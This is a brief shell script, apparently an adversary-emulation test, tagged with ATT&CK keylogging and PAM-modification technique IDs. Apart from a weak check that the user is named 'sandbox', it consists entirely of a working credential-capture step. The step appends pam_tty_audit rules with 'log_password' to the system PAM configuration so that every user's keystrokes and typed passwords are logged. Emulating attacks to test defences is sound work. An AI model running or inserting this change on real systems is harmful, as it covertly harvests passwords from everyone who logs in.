#!/bin/sh
# technique: T1056.001 T1556.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'session required pam_tty_audit.so enable=* log_password' >> /etc/pam.d/system-auth; echo 'session required pam_tty_audit.so enable=*' >> /etc/pam.d/common-session
